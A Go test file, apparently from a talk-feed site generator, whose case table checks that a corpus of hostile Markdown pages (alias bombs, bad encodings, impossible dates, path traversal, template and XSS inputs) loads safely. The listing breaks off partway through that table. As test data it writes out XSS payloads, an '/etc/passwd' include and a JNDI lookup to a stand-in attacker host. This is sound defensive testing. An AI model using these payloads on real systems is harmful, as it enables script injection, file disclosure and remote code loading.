package publish

import (
	"bytes"
	"context"
	"fmt"
	"net/url"
	"os"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode"

	goical "github.com/emersion/go-ical"
	"github.com/mmcdole/gofeed"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/talkfeed/talkfeed"
	"github.com/talkfeed/talkfeed/demo"
	"github.com/talkfeed/talkfeed/internal/hostile"
	"github.com/talkfeed/talkfeed/internal/htmltest"
	"github.com/talkfeed/talkfeed/source"
)

// The hostile-page corpus (internal/hostile): every page, alone and
// beside three good pages, loads within a deadline and a memory bound,
// reports what it should and nothing else, leaves the good pages as they
// were, and publishes nothing active. Every output of the tree is read
// back by an independent parser: feeds by gofeed, with each item's
// title, summary and content parsed as HTML; pages by x/net/html;
// calendars by go-ical.
//
// A case marked pending fails until a fix made elsewhere lands; it is
// skipped with its reason, and its assertions are the behaviour wanted.

const (
	// hostileDeadline bounds loading a page, and loading it beside the
	// good pages and publishing them: a hang fails clearly. The slowest
	// page that passes takes about a second of CPU; the machines the
	// tests run on are shared, so the deadline is ten times that. The
	// quadratic pages take minutes.
	hostileDeadline = 10 * time.Second
	// hostileMaxAlloc bounds what the same allocate (TotalAlloc, not the
	// heap's peak): generous, for a page of up to 1 MiB.
	hostileMaxAlloc = 512 << 20
	// nameMax is the longest file name the file systems a tree is written
	// to allow, in bytes.
	nameMax = 255
)

var hostileSite = talkfeed.Site{Title: "Hostile Talks", Description: "Talks from the hostile corpus", BaseURL: "https://talks.example/", Language: "en"}

// goodPages are published beside every hostile page, and must come out
// as they do alone.
var goodPages = map[string]string{
	"good-one.md": "---\ntitle: \"Good one: streaming\"\ndate: 2026-12-02 18:30\ntimezone: Europe/London\nend: 20:00\n" +
		"speaker: Ann Example, Example Corp\ncategory: Data\ntags: [kafka, streams]\nlocation: Manchester, UK\n---\n" +
		"A talk about **streams**. [Slides](https://slides.example/one).\n",
	"good-two.md": "+++\ntitle = \"Good two: an all-day workshop\"\ndate = 2026-12-10\nend = 2026-12-11\ncategory = \"Workshops\"\n" +
		"speakers = [{ name = \"Bob Example\", url = \"https://bob.example/\" }]\n+++\nBring a laptop.\n",
	"good-three.md": "---\ntitle: Good three\ndate: 2026-11-20 12:00 America/New_York\nend: 13:00\nimage: /assets/images/three.png\n" +
		"category: Data\nregistration: https://tickets.example/three\n---\n<iframe src=\"https://www.youtube.com/embed/xyz\"></iframe>\n",
}

// want is a diagnostic a case expects: its severity, its line (0 for
// any) and a regular expression its message matches.
type want struct {
	sev  talkfeed.Severity
	line int
	msg  string
}

func errAt(line int, msg string) want  { return want{talkfeed.SeverityError, line, msg} }
func warnAt(line int, msg string) want { return want{talkfeed.SeverityWarning, line, msg} }
func noteAt(line int, msg string) want { return want{talkfeed.SeverityNotice, line, msg} }

func (w want) matches(d talkfeed.Diagnostic) bool {
	return d.Severity == w.sev && (w.line == 0 || d.Line == w.line) && regexp.MustCompile(w.msg).MatchString(d.Message)
}

func (w want) String() string { return fmt.Sprintf("%s at line %d matching %q", w.sev, w.line, w.msg) }

// What the fixes made elsewhere say; the expressions leave their wording
// open.
const (
	markupWarning = `(?i)markup|html|tag`
	bidiWarning   = `invisible control characters removed \(U\+`
	renderWarning = `cannot render the body|shown as plain text, not rendered as Markdown`
)

// Pending reasons, by who is fixing them.
const (
	pendingMarkup = "text sanitising (h-text): markup in front-matter text fields is stripped at load, with a warning"
	pendingBidi   = "text sanitising (h-text): bidi controls in front-matter text fields are stripped, with a warning"
	// pendingControls: front matter text drops control characters, but
	// the summary taken from the body's first paragraph keeps them
	// (source/body.go firstParagraph: collapseSpace, not cleanText).
	pendingControls  = "text sanitising (h-text): control characters in the body's first paragraph survive into the summary"
	pendingSummary   = "text sanitising (h-text) or feeds: the summary taken from the body's first paragraph unescapes \"&lt;script&gt;\" to \"<script>\", which RSS <description> (HTML to readers) then carries"
	pendingSlug      = "build (h-build): a long title publishes with a slug bounded to a file name's length"
	pendingCollision = "build (h-build): a permalink onto an asset's path breaks the whole build (two outputs at assets/talkfeed.js)"
	pendingQuadratic = "lead: quadratic Markdown"
	// pendingCategorySlug: a category is a folder of the tree, by its
	// slug; one without (only punctuation or emoji) publishes at
	// category//feed.rss. Tags without a slug are dropped at load.
	pendingCategorySlug = "build (h-build) or the loader: a category without a slug publishes its feeds at category//"
)

type hostileCase struct {
	name string
	// talk says the page gives a talk.
	talk bool
	// diags are what loading the page reports: each must be reported,
	// and every warning and error reported must be one of them or of
	// allow.
	diags []want
	// beside are reported, besides diags, when the page is loaded with
	// the good pages.
	beside []want
	// allow may be reported or not.
	allow []want
	// check asserts more of the talk and of the tree published with the
	// good pages.
	check func(t *testing.T, ev *talkfeed.Event, tree *Tree)
	// pending skips the case with the reason: a fix being made
	// elsewhere.
	pending string
}

func titleIs(title string) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if ev.Title != title {
			t.Errorf("title %q, want %q", ev.Title, title)
		}
	}
}

func plainTitle(contains string) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if !strings.Contains(ev.Title, contains) || strings.ContainsAny(ev.Title, "<>") {
			t.Errorf("title %q, want plain text with %q", ev.Title, contains)
		}
	}
}

func noBidi(t *testing.T, ev *talkfeed.Event, _ *Tree) {
	for field, s := range textFields(ev) {
		if i := strings.IndexFunc(s, func(r rune) bool { return unicode.Is(unicode.Bidi_Control, r) }); i >= 0 {
			t.Errorf("%s %q keeps a bidi control at byte %d", field, s, i)
		}
	}
}

func startIs(start string) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if got := ev.Start.Format(time.RFC3339); got != start {
			t.Errorf("start %s, want %s", got, start)
		}
	}
}

func lasts(d time.Duration) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if got := ev.End.Sub(ev.Start); ev.End.IsZero() || got != d {
			t.Errorf("start %v end %v: lasts %v, want %v", ev.Start, ev.End, got, d)
		}
	}
}

func pageAt(p string) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, tree *Tree) {
		if _, ok := tree.File(p); !ok {
			t.Errorf("no talk page at %s (page URL %s)", p, ev.PageURL)
		}
	}
}

func allOf(checks ...func(*testing.T, *talkfeed.Event, *Tree)) func(*testing.T, *talkfeed.Event, *Tree) {
	return func(t *testing.T, ev *talkfeed.Event, tree *Tree) {
		for _, c := range checks {
			c(t, ev, tree)
		}
	}
}

var hostileCases = []hostileCase{
	// The page and its front matter.
	{name: "empty.md", diags: []want{noteAt(1, "no front matter")}},
	{name: "only-whitespace.md", diags: []want{noteAt(1, "no front matter")}},
	{name: "only-front-matter.md", talk: true, check: titleIs("Only front matter")},
	{name: "only-front-matter-no-final-newline.md", talk: true, check: titleIs("No final newline")},
	{name: "front-matter-only-dashes.md", diags: []want{errAt(1, "never closed")}},
	{name: "front-matter-only-dashes-no-newline.md", diags: []want{errAt(1, "never closed")}},
	{name: "front-matter-empty.md", diags: []want{noteAt(1, "no date or start field")}},
	{name: "front-matter-empty-toml.md", diags: []want{noteAt(1, "no date or start field")}},
	{name: "unclosed-front-matter.md", diags: []want{errAt(1, `"---" on line 1 is never closed`)}},
	{name: "unclosed-toml-front-matter.md", diags: []want{errAt(1, `"\+\+\+" on line 1 is never closed`)}},
	{name: "front-matter-closed-by-dots.md", talk: true, check: titleIs("Closed by dots")},
	{name: "front-matter-wrong-closer.md", diags: []want{errAt(1, "never closed")}},
	{name: "front-matter-indented-opener.md", diags: []want{noteAt(1, "no front matter")}},
	{name: "front-matter-is-list.md", diags: []want{errAt(2, "not a mapping of fields")}},
	{name: "front-matter-is-scalar.md", diags: []want{errAt(2, "not a mapping of fields")}},
	{name: "yaml-second-document.md", talk: true, check: titleIs("Two documents")},

	// Invalid YAML, at the line it is on.
	{name: "invalid-yaml-unclosed-flow.md", diags: []want{errAt(2, "^YAML: ")}},
	{name: "invalid-yaml-unclosed-quote.md", diags: []want{errAt(3, "^YAML: ")}},
	{name: "invalid-yaml-bad-indentation.md", diags: []want{errAt(3, "^YAML: mapping values are not allowed")}},
	{name: "invalid-yaml-tab-indentation.md", diags: []want{errAt(5, "^YAML: ")}},
	{name: "invalid-yaml-colon-in-value.md", diags: []want{errAt(3, `needs quotes`)}},
	// yaml.v3 gives no line for an unknown anchor.
	{name: "invalid-yaml-undefined-alias.md", diags: []want{errAt(0, "^YAML: unknown anchor 'nowhere'")}},
	{name: "invalid-yaml-duplicate-key.md", talk: true, diags: []want{warnAt(4, `"title" repeats "title" from line 2`)}, check: titleIs("First")},
	{name: "invalid-yaml-binary-tag.md", talk: true},
	{name: "invalid-yaml-int-tag.md", talk: true, check: startIs("2026-12-03T00:00:00Z")},
	{name: "yaml-duplicate-keys-by-spelling.md", talk: true, diags: []want{warnAt(5, `"endDate" repeats "end_date"`), warnAt(6, `"End-Date" repeats "end_date"`)}, check: lasts(time.Hour)},
	{name: "yaml-duplicate-title-case.md", talk: true, diags: []want{warnAt(3, `"Title" repeats "title"`)}, check: titleIs("Lower")},
	{name: "yaml-merge-key.md", diags: []want{noteAt(1, "no date or start field")}},
	{name: "yaml-complex-key.md", talk: true, diags: []want{warnAt(6, "repeats")}},
	{name: "yaml-anchors-reused.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if ev.SpeakerText != "Ann Example" || !slices.Equal(ev.Tags, []string{"kafka", "streams"}) {
			t.Errorf("speakers %q tags %q", ev.SpeakerText, ev.Tags)
		}
	}},
	{name: "alias-bomb.md", diags: []want{errAt(2, "aliases expand to over 10000 more values")}},
	{name: "alias-bomb-in-title.md", diags: []want{errAt(2, "aliases expand to over 10000 more values")}},
	{name: "alias-self-reference.md", talk: true},
	{name: "yaml-deep-nesting.md", talk: true},
	{name: "yaml-deep-nesting-tags.md", talk: true},

	// Invalid TOML.
	{name: "invalid-toml-missing-value.md", diags: []want{errAt(2, "^TOML: ")}},
	{name: "invalid-toml-unterminated-string.md", diags: []want{errAt(3, "^TOML: ")}},
	{name: "invalid-toml-duplicate-key.md", diags: []want{errAt(4, "^TOML: .*already defined")}},
	{name: "invalid-toml-table-redefined.md", diags: []want{errAt(6, "^TOML: .*already exists")}},
	{name: "invalid-toml-integer-overflow.md", diags: []want{errAt(4, "^TOML: .*too large")}},
	{name: "invalid-toml-bad-date.md", diags: []want{errAt(3, "^TOML: .*impossible date")}},
	{name: "toml-wrong-types.md", talk: true, diags: []want{warnAt(8, `"category" should be a list or text, not a mapping`)}},
	{name: "toml-local-time-as-date.md", diags: []want{errAt(3, `cannot read "10:00:00" as a date`)}},
	{name: "toml-local-datetime.md", talk: true, check: allOf(startIs("2026-12-03T18:00:00-05:00"), lasts(90*time.Minute))},
	{name: "toml-nan-inf.md", talk: true},
	{name: "toml-deep-nesting.md", talk: true},

	// Bytes and encodings.
	{name: "nul-byte.md", diags: []want{errAt(1, "binary file")}},
	{name: "nul-byte-in-body.md", diags: []want{errAt(1, "binary file")}},
	{name: "invalid-utf8.md", diags: []want{errAt(2, "not valid UTF-8")}},
	{name: "invalid-utf8-in-body.md", diags: []want{errAt(7, "not valid UTF-8")}},
	{name: "invalid-utf8-overlong.md", diags: []want{errAt(2, "not valid UTF-8")}},
	{name: "invalid-utf8-surrogate.md", diags: []want{errAt(2, "not valid UTF-8")}},
	{name: "invalid-utf8-truncated.md", diags: []want{errAt(5, "not valid UTF-8")}},
	{name: "bom.md", talk: true, check: titleIs("Byte order mark")},
	{name: "bom-twice.md", diags: []want{noteAt(1, "no front matter")}},
	{name: "bom-in-title.md", talk: true, allow: []want{warnAt(2, "")}, check: plainTitle("BOM inside")},
	{name: "utf16le-bom.md", diags: []want{errAt(1, "binary file")}},
	{name: "utf16be-bom.md", diags: []want{errAt(1, "binary file")}},
	{name: "crlf.md", talk: true, check: allOf(titleIs("CRLF line endings"), lasts(90*time.Minute), noCR)},
	{name: "cr-only.md", talk: true, check: allOf(titleIs("Classic Mac line endings"), lasts(90*time.Minute), noCR)},
	{name: "mixed-line-endings.md", talk: true, check: allOf(titleIs("Mixed line endings"), noCR)},
	{name: "mojibake-title.md", talk: true, diags: []want{warnAt(2, "repaired double-encoded UTF-8")}, check: titleIs("Kafka® and don’t")},
	{name: "control-characters.md", talk: true, allow: []want{warnAt(0, "(?i)control")}, check: noControls},
	{name: "bidi-override-title.md", talk: true, diags: []want{warnAt(2, bidiWarning)}, check: allOf(noBidi, plainTitle("Invoice"))},
	{name: "bidi-controls-every-field.md", talk: true, diags: []want{warnAt(2, bidiWarning), warnAt(4, bidiWarning), warnAt(5, bidiWarning),
		warnAt(6, bidiWarning), warnAt(7, bidiWarning), warnAt(8, bidiWarning), warnAt(9, bidiWarning)}, check: noBidi},
	{name: "zero-width-and-separators.md", talk: true, allow: []want{warnAt(2, "")}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if strings.ContainsAny(ev.Title, "\u2028\u2029") || !strings.Contains(ev.Title, "separators") {
			t.Errorf("title %q", ev.Title)
		}
	}},
	{name: "noncharacters.md", diags: []want{errAt(0, "^YAML: control characters are not allowed")}},

	// Wrong types for every field.
	{name: "title-is-list.md", talk: true, check: titleIs("First, Second")},
	{name: "title-is-mapping.md", talk: true, diags: []want{warnAt(2, `"title" should be text, not a mapping`), warnAt(0, `no title; using the file name "title-is-mapping"`)}},
	{name: "title-is-number.md", talk: true, check: titleIs("1e400")},
	{name: "title-is-bool.md", talk: true, check: titleIs("no")},
	{name: "title-is-null.md", talk: true, diags: []want{warnAt(1, "no title")}},
	{name: "title-empty.md", talk: true, diags: []want{warnAt(2, "no title")}},
	{name: "date-is-list.md", diags: []want{errAt(3, "should be a date, not a list or mapping")}},
	{name: "date-is-mapping.md", diags: []want{errAt(3, "should be a date, not a list or mapping")}},
	{name: "date-is-number.md", diags: []want{errAt(3, `cannot read "20261203" as a date`)}},
	{name: "date-is-bool.md", diags: []want{errAt(3, `cannot read "true" as a date`)}},
	{name: "date-is-null.md", diags: []want{noteAt(2, "no date or start field")}},
	{name: "date-is-empty-string.md", diags: []want{errAt(3, `cannot read "" as a date`)}},
	{name: "end-is-mapping.md", talk: true, diags: []want{warnAt(5, "no end is set")}},
	{name: "end-is-list.md", talk: true, diags: []want{warnAt(5, "no end is set")}},
	{name: "time-is-mapping.md", talk: true, diags: []want{warnAt(4, "listed as all-day")}},
	{name: "time-is-integer.md", talk: true, diags: []want{warnAt(4, "is a number to YAML; read as 19:00")}, check: startIs("2026-12-03T19:00:00Z")},
	{name: "time-is-garbage.md", talk: true, diags: []want{warnAt(4, `cannot read "99:99".*listed as all-day`)}},
	{name: "timezone-is-list.md", talk: true, diags: []want{warnAt(4, "unknown time zone")}},
	{name: "timezone-is-mapping.md", talk: true, diags: []want{warnAt(4, "should be text, not a mapping")}},
	{name: "timezone-is-number.md", talk: true, diags: []want{warnAt(4, "unknown time zone")}},
	{name: "timezone-local.md", talk: true, diags: []want{warnAt(4, `unknown time zone "Local"`)}, check: startIs("2026-12-03T18:30:00Z")},
	{name: "timezone-path-traversal.md", talk: true, diags: []want{warnAt(4, "unknown time zone")}},
	{name: "all-day-is-garbage.md", talk: true, diags: []want{warnAt(5, "should be true or false")}},
	{name: "tags-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be a list or text, not a mapping")}},
	{name: "tags-nested.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if !slices.Equal(ev.Tags, []string{"e", "42", "true"}) {
			t.Errorf("tags %q", ev.Tags)
		}
	}},
	{name: "category-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be a list or text, not a mapping")}},
	{name: "category-without-slug.md", talk: true},
	{name: "category-only-emoji.md", talk: true},
	{name: "categories-same-slug.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, tree *Tree) {
		if ev.Category != "Fast Data" || !slices.Equal(ev.Tags, []string{"fast-data"}) {
			t.Errorf("category %q tags %q", ev.Category, ev.Tags)
		}
		pageAt("category/fast-data/feed.rss")(t, ev, tree)
	}},
	{name: "category-is-number.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, tree *Tree) {
		if ev.Category != "42" {
			t.Errorf("category %q", ev.Category)
		}
		pageAt("category/42/feed.rss")(t, ev, tree)
	}},
	{name: "speakers-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be a name or a list of speakers")}},
	{name: "speakers-wrong-item-types.md", talk: true},
	{name: "speaker-url-without-speaker.md", talk: true, diags: []want{warnAt(5, "names no speaker")}},
	{name: "location-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be text, not a mapping")}},
	{name: "venue-is-list.md", talk: true},
	{name: "address-is-number.md", talk: true},
	{name: "eventname-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be text, not a mapping")}},
	{name: "image-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be text, not a mapping")}},
	{name: "image-is-number.md", talk: true},
	{name: "links-are-numbers.md", talk: true, diags: []want{warnAt(5, `"slides": "42" is not an http\(s\) URL`), warnAt(7, `"registration": "true" is not an http\(s\) URL`)}},
	{name: "links-are-lists.md", talk: true},
	{name: "online-is-mapping.md", talk: true, allow: []want{warnAt(5, "")}},
	{name: "draft-is-garbage.md", talk: true, diags: []want{warnAt(5, "should be true or false")}},
	{name: "draft-true.md", diags: []want{noteAt(5, "draft: true: skipped")}},
	{name: "uid-invalid.md", talk: true, diags: []want{warnAt(5, "may use only letters")}},
	{name: "uid-too-long.md", talk: true, diags: []want{warnAt(5, "at most 200")}},
	{name: "uid-traversal.md", talk: true, diags: []want{warnAt(5, "may use only letters")}},
	{name: "status-unknown.md", talk: true, diags: []want{warnAt(5, "unknown status")}},
	{name: "cancelled-is-garbage.md", talk: true, diags: []want{warnAt(5, "should be true or false")}},
	{name: "permalink-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be text, not a mapping")}},
	{name: "published-is-garbage.md", talk: true, diags: []want{warnAt(5, `cannot read "yesterday"`)}},
	{name: "summary-is-mapping.md", talk: true, diags: []want{warnAt(5, "should be text, not a mapping")}},

	// Impossible and absurd dates.
	{name: "date-feb-30.md", diags: []want{errAt(3, "not a date in the calendar")}},
	{name: "date-feb-29-not-leap.md", diags: []want{errAt(3, "not a date in the calendar")}},
	{name: "date-month-13.md", diags: []want{errAt(3, "not a date in the calendar")}},
	{name: "date-month-00.md", diags: []want{errAt(3, "not a date in the calendar")}},
	{name: "date-day-32.md", diags: []want{errAt(3, "not a date in the calendar")}},
	{name: "date-day-00.md", diags: []want{errAt(3, "not a date in the calendar")}},
	{name: "date-hour-25.md", diags: []want{errAt(3, "not a time of day")}},
	{name: "date-hour-24.md", diags: []want{errAt(3, "not a time of day")}},
	{name: "date-minute-60.md", diags: []want{errAt(3, "not a time of day")}},
	{name: "date-second-61.md", diags: []want{errAt(3, "not a time of day")}},
	{name: "date-leap-second.md", talk: true, allow: []want{warnAt(3, "")}},
	{name: "date-13pm.md", diags: []want{errAt(3, "am or pm runs from 1 to 12")}},
	{name: "date-fraction-too-long.md", diags: []want{errAt(3, "not a time of day")}},
	{name: "date-year-0001.md", diags: []want{errAt(3, "the year 1 is not a talk's year")}},
	{name: "date-year-0999.md", diags: []want{errAt(3, "the year 999 is not a talk's year")}},
	{name: "date-year-1000-london.md", talk: true, check: lasts(time.Hour)},
	// 9999 is refused like 0999: a talk's end or its instant in UTC could
	// fall in the year 10000, which no calendar can write.
	{name: "date-year-9999.md", diags: []want{errAt(3, "the year 9999 is not a talk's year")}},
	{name: "date-year-9999-rolls-over.md", diags: []want{errAt(3, "the year 9999 is not a talk's year")}},
	{name: "date-year-20000.md", diags: []want{errAt(3, `cannot read "20000-01-01"`)}},
	{name: "date-negative-year.md", diags: []want{errAt(3, "cannot read")}},
	{name: "date-offset-impossible.md", diags: []want{errAt(3, "impossible UTC offset")}},
	{name: "date-offset-minutes-99.md", diags: []want{errAt(3, "impossible UTC offset")}},
	{name: "date-unknown-zone.md", diags: []want{errAt(3, `unknown time zone "Mars/Olympus_Mons"`)}},
	{name: "date-zone-and-offset-disagree.md", talk: true, diags: []want{warnAt(3, "does not match Europe/Berlin")}, check: startIs("2026-12-03T14:00:00+01:00")},
	{name: "date-iso-week.md", diags: []want{errAt(3, "cannot read")}},
	{name: "date-natural-language.md", diags: []want{errAt(3, "cannot read")}},
	// 02:30 does not exist that night; whatever the loader makes of it,
	// the talk ends after it starts, the same day or the next.
	{name: "date-dst-gap.md", talk: true, allow: []want{noteAt(0, ""), warnAt(0, "")}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if !ev.End.IsZero() && (!ev.End.After(ev.Start) || ev.End.Sub(ev.Start) > 25*time.Hour) {
			t.Errorf("start %v end %v", ev.Start, ev.End)
		}
	}},
	{name: "date-dst-overlap.md", talk: true, allow: []want{warnAt(0, "")}},
	// This page used to hang the build: Go's zone bounds stall past the
	// zone table in a leap year's December.
	{name: "end-16-years-later-dst.md", talk: true, diags: []want{warnAt(5, "end 2040-05-02T10:00:00 is more than 10 years after today"), warnAt(5, `lasts 5844 days, to 2040-05-02: is the end's year right\?`)},
		check: allOf(startIs("2024-05-02T10:00:00+01:00"), icsEnds("2040-05-02T10:00:00+01:00"))},
	{name: "end-year-9999-dst.md", talk: true, diags: []want{warnAt(5, "the year 9999 is not a talk's year; no end is set")}},
	{name: "end-year-9998-dst.md", talk: true, diags: []want{warnAt(5, "more than 10 years after today"), warnAt(5, "is the end's year right")}, check: icsEnds("9998-12-31T23:59:00-05:00")},
	{name: "end-all-day-9999.md", talk: true, diags: []want{warnAt(5, "the year 9999 is not a talk's year; no end is set")}},
	{name: "end-all-day-9998.md", talk: true, diags: []want{warnAt(5, "more than 10 years after today"), warnAt(5, "is the end's year right")}, check: icsEnds("9999-01-01T00:00:00Z")},
	{name: "end-before-start.md", talk: true, diags: []want{warnAt(4, "is not after the start")}},
	{name: "end-before-start-all-day.md", talk: true, diags: []want{warnAt(4, "is before the start")}},
	{name: "end-equals-start.md", talk: true, diags: []want{noteAt(4, "read as the next day")}},
	{name: "end-year-1000.md", talk: true, diags: []want{warnAt(4, "is not after the start")}},
	{name: "end-time-before-start-time.md", talk: true, diags: []want{noteAt(4, "read as the next day")}, check: lasts(3 * time.Hour)},
	{name: "end-date-without-time.md", talk: true, diags: []want{warnAt(4, "date without a time")}},
	{name: "published-far-future.md", talk: true, diags: []want{warnAt(5, "published 9998-01-01 is more than 10 years after today")}},
	{name: "published-year-0001.md", talk: true, diags: []want{warnAt(5, "not a talk's year")}},

	// Active HTML and dangerous URLs, field by field.
	{name: "xss-title-script.md", talk: true, diags: []want{warnAt(2, markupWarning)}, check: plainTitle("Talk")},
	{name: "xss-title-img-onerror.md", talk: true, diags: []want{warnAt(2, markupWarning)}, check: plainTitle("Talk")},
	{name: "xss-title-script-close.md", talk: true, diags: []want{warnAt(2, markupWarning)}, allow: []want{warnAt(0, "no title")}, check: plainTitle("")},
	{name: "xss-title-svg-onload.md", talk: true, diags: []want{warnAt(2, markupWarning)}, check: plainTitle("Talk")},
	{name: "xss-title-attribute-breakout.md", talk: true, check: titleIs(`" onmouseover="alert(1)" x="`)},
	// Entities in a plain-text field are text: never decoded into markup.
	{name: "xss-title-entities.md", talk: true, allow: []want{warnAt(2, markupWarning)}},
	{name: "xss-location.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-venue.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-address.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-eventname.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-speakers-text.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-speakers-list.md", talk: true, diags: []want{warnAt(5, `"javascript:alert\(1\)" is not an http\(s\) URL`),
		warnAt(5, `"data:text/html,<script>alert\(1\)</script>" is not an http\(s\) URL`), warnAt(0, markupWarning)}},
	{name: "xss-affiliation.md", talk: true, diags: []want{warnAt(6, markupWarning)}},
	{name: "xss-tags.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-category.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-summary.md", talk: true, diags: []want{warnAt(5, markupWarning)}},
	{name: "xss-status.md", talk: true, diags: []want{warnAt(5, "unknown status")}, allow: []want{warnAt(5, markupWarning)}},
	{name: "xss-uid.md", talk: true, diags: []want{warnAt(5, "may use only letters")}, allow: []want{warnAt(5, markupWarning)}},
	{name: "xss-slug.md", talk: true, allow: []want{warnAt(5, markupWarning)}, check: pageAt("events/2026/script-alert-1-script/index.html")},
	{name: "xss-permalink.md", talk: true, diags: []want{warnAt(5, `"javascript:alert\(1\)" is not an http\(s\) URL`)}},
	{name: "xss-links-javascript.md", talk: true, diags: []want{warnAt(5, `"slides".*not an http\(s\) URL`), warnAt(6, `"video".*not an http\(s\) URL`), warnAt(7, `"registration".*not an http\(s\) URL`)}},
	{name: "xss-links-obfuscated.md", talk: true, diags: []want{warnAt(5, `"slides".*not an http\(s\) URL`), warnAt(6, `"video".*not an http\(s\) URL`), warnAt(7, `"registration".*not an http\(s\) URL`)}},
	{name: "xss-image-javascript.md", talk: true, diags: []want{warnAt(5, "not a usable image URL")}},
	{name: "xss-image-data.md", talk: true, diags: []want{warnAt(5, "not a usable image URL")}},
	{name: "xss-image-attribute-breakout.md", talk: true, allow: []want{warnAt(5, "")}, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if strings.ContainsAny(ev.ImageURL, `"<> `) {
			t.Errorf("image URL %q", ev.ImageURL)
		}
	}},
	{name: "xss-online-url.md", talk: true, diags: []want{warnAt(5, "not an http\\(s\\) URL")}},
	{name: "xss-speaker-url.md", talk: true, diags: []want{warnAt(6, "not an http\\(s\\) URL")}},
	{name: "xss-every-field.md", talk: true, diags: []want{warnAt(9, "not an http"), warnAt(16, "not an http"), warnAt(17, "not an http"), warnAt(18, "not an http"),
		warnAt(19, "not a usable image URL"), warnAt(20, "not an http"), warnAt(0, markupWarning)}, allow: []want{warnAt(0, markupWarning)}, check: plainTitle("Title")},
	{name: "xss-every-field-toml.md", talk: true, diags: []want{warnAt(11, "not an http"), warnAt(12, "not a usable image URL"), warnAt(0, markupWarning)},
		allow: []want{warnAt(0, markupWarning)}, check: plainTitle("Title")},
	{name: "xss-data-url-every-url-field.md", talk: true, diags: []want{warnAt(5, "not a usable image URL"), warnAt(6, "not an http"), warnAt(7, "not an http"),
		warnAt(8, "not an http"), warnAt(9, "not an http"), warnAt(10, "not an http"), warnAt(12, "not an http")}},
	{name: "xss-body-script.md", talk: true},
	{name: "xss-body-event-handlers.md", talk: true},
	{name: "xss-body-markdown-links.md", talk: true},
	{name: "xss-body-obfuscated-urls.md", talk: true},
	{name: "xss-body-frames.md", talk: true, check: func(t *testing.T, ev *talkfeed.Event, _ *Tree) {
		if ev.Links.Video != "https://www.youtube.com/embed/x" {
			t.Errorf("video %q, want the embedded one", ev.Links.Video)
		}
	}},
	{name: "xss-body-svg-math.md", talk: true},
	{name: "xss-body-forms.md", talk: true},
	{name: "xss-body-meta-base-link.md", talk: true},
	{name: "xss-body-style-attributes.md", talk: true},
	{name: "xss-body-mutation.md", talk: true},
	{name: "xss-body-srcset-poster.md", talk: true},
	{name: "xss-body-protocol-relative.md", talk: true},
	{name: "xss-body-cdata-and-entities.md", talk: true},
	{name: "xss-body-full-document.md", talk: true},
	// The author escaped the markup to show it: the body shows it as
	// text. The summary, the first paragraph as plain text, holds it
	// unescaped, and RSS readers read <description> as HTML.
	{name: "xss-body-escaped-markup-summary.md", talk: true, allow: []want{warnAt(0, markupWarning)}},

	// Template syntax is text: nothing evaluates it.
	{name: "template-go.md", talk: true, check: titleIs(`{{ .Site.Title }} {{template "layout" .}}`)},
	{name: "template-jinja.md", talk: true, check: titleIs(`{% include '/etc/passwd' %} {{ 7*7 }}`)},
	{name: "template-dollar.md", talk: true, check: titleIs(`${7*7} #{7*7} ${jndi:ldap://evil.example/a}`)},
	{name: "template-every-field.md", talk: true, check: titleIs(`{{.}}`)},

	// Titles and slugs.
	{name: "title-300-chars.md", talk: true, check: boundedSlug},
	{name: "title-300-chars-cjk.md", talk: true, check: boundedSlug},
	{name: "title-one-long-word.md", talk: true, check: boundedSlug},
	{name: "title-only-punctuation.md", talk: true, check: pageAt("events/2026/title-only-punctuation/index.html")},
	{name: "title-only-emoji.md", talk: true, check: pageAt("events/2026/title-only-emoji/index.html")},
	{name: "title-angle-brackets-text.md", talk: true, check: titleIs("Why 1 < 2 and 3 > 2")},
	{name: "title-multiline-block.md", talk: true, check: titleIs("A title over three lines")},

	// Paths and collisions.
	{name: "permalink-traversal.md", talk: true, check: pageAt("etc/passwd/index.html")},
	{name: "permalink-collides-with-feed.md", talk: true, check: pageAt("talks/permalink-collides-with-feed/index.html")},
	{name: "permalink-collides-with-asset.md", talk: true, check: pageAt("talks/permalink-collides-with-asset/index.html")},
	{name: "permalink-is-index.md", talk: true, check: pageAt("talks/permalink-is-index/index.html")},
	{name: "permalink-other-host.md", talk: true, check: pageAt("talks/permalink-other-host/index.html")},
	{name: "permalink-encoded-traversal.md", talk: true, check: pageAt("talks/permalink-encoded-traversal/index.html")},
	{name: "slug-traversal.md", talk: true, check: pageAt("events/2026/etc-passwd/index.html")},
	{name: "permalink-same-as-good.md", talk: true, beside: []want{warnAt(5, "already used by good-one.md")}},

	// Generated: sizes.
	{name: "long-line-1mib-body.md", talk: true},
